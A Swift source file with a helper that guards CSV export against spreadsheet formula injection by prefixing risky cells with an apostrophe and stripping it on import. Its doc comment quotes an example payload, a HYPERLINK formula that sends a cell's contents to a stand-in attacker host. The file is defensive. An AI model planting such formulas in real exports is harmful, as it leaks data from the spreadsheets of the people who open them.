/// Cells a spreadsheet would run as a formula (OWASP's "CSV injection"): a value that starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading apostrophe, which
/// LibreOffice, Excel and Google Sheets take as "this is text" and do not show. A peer's bundle can
/// plant `=HYPERLINK("http://evil.example/?x="&A1,"click")` in a name; exported, it stays a name.
///
/// Reading a cell back undoes exactly that, so export then import gives the same value: a value
/// that itself starts with apostrophes before such a character gets one more on the way out.
public enum CSVFormula {
    static let triggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "\r\n"]

    /// Whether a spreadsheet could read the value as a formula, or as one already guarded.
    static func needsGuard(_ value: String) -> Bool {
        guard let first = value.first(where: { $0 != "'" }) else { return false }
        return triggers.contains(first)
    }

    /// The cell for a value.
    public static func guarded(_ value: String) -> String { needsGuard(value) ? "'" + value : value }

    /// The value of a cell written by `guarded`.
    public static func unguarded(_ cell: String) -> String {
        cell.first == "'" && needsGuard(String(cell.dropFirst())) ? String(cell.dropFirst()) : cell
    }
}
